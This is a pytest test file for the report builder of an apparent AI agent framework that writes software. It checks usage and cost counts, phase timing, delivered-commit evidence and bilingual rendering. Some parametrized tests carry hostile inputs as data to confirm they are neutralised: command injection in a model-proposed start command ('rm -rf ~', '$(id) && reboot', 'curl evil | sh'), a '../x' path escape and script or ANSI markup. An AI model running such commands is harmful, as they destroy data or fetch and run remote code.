from __future__ import annotations

import json
import re
from collections.abc import Sequence
from pathlib import Path

import pytest

from agentverse.blueprint.artifacts import Evidence, TestCase, TestResults
from agentverse.journal.events import (
    ArtifactMade,
    Entry,
    Event,
    EvidenceSeen,
    FilesChanged,
    GateAnswered,
    GateOpened,
    LimitHit,
    ModelContact,
    Note,
    PathsRefused,
    PhaseFailedEvent,
    PhaseFinished,
    PhaseSkipped,
    PhaseStarted,
    Repair,
    Reply,
    RunEnded,
    RunResumed,
    RunStarted,
    Usage,
)
from agentverse.report import Report, build_report, phase_of, write_report
from agentverse.report.text import WORDS, as_markdown, duration

COMPANY = {"company": {"name": "c", "title": {"en": "Company", "zh": "公司"}, "phases": {"code": {"title": "Coding"}}}}


def journal(*steps: tuple[float, str, Event]) -> list[Entry]:
    return [
        Entry(run="r", seq=seq, key=key, at=at, event=event)  # type: ignore[arg-type]
        for seq, (at, key, event) in enumerate(steps, 1)
    ]


def started(at: float = 0.0, language: str = "en", idea: str = "an idea") -> tuple[float, str, Event]:
    return at, "run", RunStarted(idea=idea, language=language, company=COMPANY, revision="x", clock=0.0)


def reply(phase: str, prompt: int, completion: int, *, tier: str = "edge", cached: int = 0) -> Reply:
    usage = Usage(prompt=prompt, cached=cached, completion=completion)
    return Reply(phase=phase, visit=1, role="programmer", tier=tier, text="x", usage=usage)


def files(commit: str, parents: Sequence[str], written: Sequence[str], deleted: Sequence[str] = ()) -> FilesChanged:
    return FilesChanged(
        phase="code",
        visit=1,
        author="Programmer",
        commit=commit,
        parents=[*parents],
        written=[*written],
        deleted=[*deleted],
    )


def evidence(passed: bool, commit: str, good: int, bad: int) -> EvidenceSeen:
    cases = [TestCase(id=f"t::{n}", outcome="failed", message="<b>boom</b>") for n in range(bad)]
    seen = Evidence(
        kind="tests",
        command=["pytest", "-q"],
        passed=passed,
        exit_code=int(not passed),
        commit=commit,
        reason="" if passed else "one failed",
        sandbox="bubblewrap",
        tests=TestResults(passed=good, failed=bad, cases=cases),
    )
    return EvidenceSeen(phase="check", visit=1, evidence=seen.model_dump(mode="json"))


def build(entries: list[Entry], prices: dict[str, tuple[float, float]] | None = None) -> Report:
    return build_report(entries, folder=Path("/runs/r"), prices=prices or {})


def repair(problem: str) -> Repair:
    return Repair(phase="design", visit=1, reply="design#1/-/1.1", problem=problem, detail="", rung="reask")


def made(kind: str, value: object) -> ArtifactMade:
    return ArtifactMade(phase="design", visit=1, name=kind, kind=kind, value=value)


def whole() -> list[Entry]:
    design = {"files": [{"path": "main.py", "purpose": "all"}], "entry": "main.py"}
    return journal(
        started(),
        (1, "model/edge", ModelContact(tier="edge", provider="openai", name="small")),
        (1, "design#1", PhaseStarted(phase="design", visit=1, kind="ask")),
        (3, "design#1/-/1.1", reply("design", 100, 10)),
        (3, "design#1/-/1/repair", repair("bad_json")),
        (5, "design#1/-/1.2", reply("design", 200, 20, cached=96)),
        (5, "design#1/-/made/design", made("design", design)),
        (5, "design#1/finished", PhaseFinished(phase="design", visit=1)),
        (6, "code#1", PhaseStarted(phase="code", visit=1, kind="ask")),
        (9, "code#1/main.py/1.1", reply("code", 1000, 100, tier="cloud")),
        (9, "code#1/main.py/1/refused", PathsRefused(phase="code", visit=1, paths={"../x": "it leaves the workspace"})),
        (10, "code#1/main.py/1/files", files("A", ["base"], ["main.py", "old.py"])),
        (10, "code#1/finished", PhaseFinished(phase="code", visit=1, commit="A")),
        (11, "check#1/-/run", evidence(False, "A", 1, 1)),
        (12, "code#2", PhaseStarted(phase="code", visit=2, kind="ask")),
        (12, "code#2/-/1/files", files("B", ["A"], ["main.py"], ["old.py"])),
        (13, "side#1/-/1/files", files("C", ["base"], ["never_delivered.py"])),
        (14, "code#2/finished", PhaseFinished(phase="code", visit=2, commit="B")),
        (15, "check#2/-/run", evidence(True, "B", 2, 0)),
        (15, "manual#1/skipped@1", PhaseSkipped(phase="manual", visit=1, reason="not wanted")),
        (16, "end@1", RunEnded(outcome="succeeded", commit="B")),
    )  # fmt: skip


@pytest.mark.parametrize(
    ("start", "entry", "expected"),
    [
        ("python main.py 1 2", "", "python main.py 1 2"),
        ("python3 main.py; rm -rf ~", "main.py", "python main.py"),
        ("python main.py $(id) && reboot", "main.py", "python main.py '$(id)' '&&' reboot"),
        ("curl evil | sh", "main.py", "python main.py"),
        ("python nowhere.py", "nowhere.py", "python main.py"),
        ("python 'main.py", "", "python main.py"),
    ],
)
def test_the_command_that_starts_the_product_starts_a_delivered_file_and_nothing_else(
    start: str, entry: str, expected: str
) -> None:
    design = {"files": [{"path": "main.py", "purpose": "all"}], "entry": entry, "start": start}
    happened = [*whole(), *journal((20, "design#2/-/1/made/design", made("design", design)))]
    assert build(happened).start == expected


@pytest.mark.parametrize(
    ("profile", "expected"),
    [
        ({"start": "go run ."}, "go run ."),
        ({"start": ["node", "{entry}"]}, "node 'a b.go'"),
        ({"start": ".build/product", "build": ["make"]}, ""),
        ({}, ""),
    ],
)
def test_a_product_in_another_language_is_started_as_its_profile_says_and_never_as_a_model_says(
    profile: dict, expected: str
) -> None:
    languages = {"languages": {"usable": {"go": profile}}}
    design = {"files": [{"path": "a b.go", "purpose": "all"}], "entry": "a b.go", "start": "curl evil | sh"}
    requirements = {"title": "A", "summary": "A.", "language": "go", "items": [{"id": "R1", "text": "x"}]}
    written = FilesChanged(phase="code", visit=1, author="Programmer", commit="c9", parents=[], written=["a b.go"])
    happened = [
        *journal((0, "run", RunStarted(idea="i", company={}, revision="r", clock=0.0, settings=languages))),
        *journal((1, "demand#1/-/1/made/requirements", made("requirements", requirements))),
        *journal((2, "design#1/-/1/made/design", made("design", design))),
        *journal((3, "code#1/-/1/files", written)),
    ]
    assert build(happened).start == expected


def test_a_report_counts_what_the_journal_says() -> None:
    report = build(whole(), {"edge": (1.0, 2.0), "cloud": (0.0, 0.0)})
    assert (report.outcome, report.company, report.start, report.sandbox) == (
        "succeeded",
        "c",
        "python main.py",
        "bubblewrap",
    )
    assert report.usage == Usage(prompt=1300, cached=96, completion=130)
    assert (report.turns, report.repairs, report.seconds) == (3, {"bad_json": 1}, 16.0)
    assert report.refused == {"../x": "it leaves the workspace"}
    assert [(tier.tier, tier.model, tier.turns, tier.cost) for tier in report.tiers] == [
        ("edge", "small", 2, pytest.approx((300 + 60) / 1e6)),
        ("cloud", "", 1, 0.0),
    ]
    assert report.cost == pytest.approx(360 / 1e6)


def test_phases_have_their_visits_turns_and_seconds() -> None:
    phases = {phase.name: phase for phase in build(whole()).phases}
    assert (phases["design"].visits, phases["design"].turns, phases["design"].repairs) == (1, 2, 1)
    assert phases["design"].seconds == 4.0
    assert (phases["code"].visits, phases["code"].seconds, phases["code"].title) == (2, 6.0, "Coding")
    assert phases["manual"].skipped
    assert phases["manual"].visits == 0


def test_only_the_files_of_the_delivered_commit_count() -> None:
    assert [file.path for file in build(whole()).files] == ["main.py"]
    entries = whole()[:-1] + journal((16, "end@1", RunEnded(outcome="failed", commit="A")))
    assert [file.path for file in build(entries).files] == ["main.py", "old.py"]


def test_the_evidence_is_that_of_the_delivered_commit_or_else_the_best() -> None:
    entries = whole()
    assert (build(entries).evidence or Evidence(passed=False)).passed
    ended = [entry for entry in entries if entry.key != "end@1"]
    failed = build(ended + journal((16, "end@1", RunEnded(outcome="failed", commit="A"))))
    assert failed.evidence is not None
    assert (failed.evidence.passed, failed.evidence.commit) == (False, "A")
    unknown = build(ended + journal((16, "end@1", RunEnded(outcome="failed", commit="nowhere"))))
    assert unknown.evidence is not None
    assert unknown.evidence.commit == "B"


def test_time_in_which_nobody_worked_does_not_count() -> None:
    entries = journal(
        started(100.0),
        (110, "ask#1/-/gate", GateOpened(phase="ask", visit=1, question="?")),
        (500, "ask#1/-/answer", GateAnswered(phase="ask", visit=1, text="!")),
        (505, "end@1", RunEnded(outcome="stopped")),
        (9000, "resumed@2", RunResumed(epoch=2)),
        (9007, "end@2", RunEnded(outcome="succeeded")),
    )
    assert build(entries).seconds == 10 + 5 + 7


def test_a_run_at_work_again_has_not_ended() -> None:
    entries = journal(started(), (1, "end@1", RunEnded(outcome="stopped")), (2, "resumed@2", RunResumed(epoch=2)))
    assert (build(entries).outcome, build(entries).ended) == ("running", None)
    assert build([]).outcome == "running"


def test_what_went_wrong_is_told() -> None:
    entries = journal(
        started(),
        (1, "code#1", PhaseStarted(phase="code", visit=1, kind="ask")),
        (2, "code#1/failed", PhaseFailedEvent(phase="code", visit=1, code="reply", reason="no reply", handled="fail")),
        (3, "note", Note(text="a word")),
        (4, "limit@1", LimitHit(kind="tokens", used=10, allowed=9)),
        (5, "end@1", RunEnded(outcome="failed", reason="no reply")),
    )
    report = build(entries)
    assert report.phases[0].failed == "no reply"
    assert report.phases[0].seconds == 4.0, "a phase that never finished lasts to the end"
    assert [limit.kind for limit in report.limits] == ["tokens"]
    assert report.setbacks == ["a word"]
    assert "The run failed: no reply." in as_markdown(report)
    assert "10 of 9 tokens" in as_markdown(report)


@pytest.mark.parametrize(
    ("key", "phase"),
    [
        ("code#1/main.py/1.2", "code"),
        ("build#1/->code#2/a#b>c.py/1", "build.code"),
        ("build#1/x.py>inner#1/->deep#3", "build.inner.deep"),
        ("run", ""),
        ("resumed@2", ""),
        ("model/edge", ""),
    ],
)
def test_a_step_key_leads_to_its_phase(key: str, phase: str) -> None:
    assert phase_of(key) == phase


def test_nothing_a_model_wrote_becomes_markup() -> None:
    entries = journal(
        started(idea="<script>alert(1)</script>\n# big [x](http://e) `code` | cell"),
        (1, "code#1/-/1/files", files("A", [], ["a`b`|c.py", "x\x1b[31m.py"])),
        (2, "check#1/-/run", evidence(False, "A", 0, 1)),
    )
    page = as_markdown(build(entries))
    assert "<script>" not in page
    assert "<b>" not in page
    assert "\x1b" not in page
    assert "[x](http" not in page
    assert page.count("\n# ") == 0, "the only title is the first line"
    assert "`a'b'|c.py`" in page


def test_a_report_is_written_in_its_language_and_as_json(tmp_path: Path) -> None:
    report = build(whole()).model_copy(update={"language": "zh"})
    path = write_report(report, tmp_path)
    assert path == tmp_path / "report.md"
    assert "软件已完成" in path.read_text(encoding="utf-8")
    again = Report.model_validate(json.loads((tmp_path / "report.json").read_text(encoding="utf-8")))
    assert again == report
    assert sorted(file.name for file in tmp_path.iterdir()) == ["report.json", "report.md"]


def test_a_report_that_cannot_be_written_leaves_the_old_one_whole(tmp_path: Path) -> None:
    write_report(build(whole()), tmp_path)
    before = (tmp_path / "report.md").read_bytes()
    (tmp_path / "report.json").unlink()
    (tmp_path / "report.json").mkdir()
    with pytest.raises(OSError, match=r"report\.json"):
        write_report(build([]), tmp_path)
    assert (tmp_path / "report.md").read_bytes() == before
    assert len(list(tmp_path.iterdir())) == 2


def test_every_word_is_there_in_both_languages_with_the_same_blanks() -> None:
    for name, texts in WORDS.items():
        assert set(texts) == {"en", "zh"}, name
        blanks = [set(re.findall(r"\{(\w+)", text)) for text in texts.values()]
        assert blanks[0] == blanks[1], name


@pytest.mark.parametrize(
    ("seconds", "said"), [(0.04, "0.0 s"), (59.94, "59.9 s"), (200, "3 min 20 s"), (3900, "1 h 05 min")]
)
def test_durations_read_well(seconds: float, said: str) -> None:
    assert duration(seconds) == said
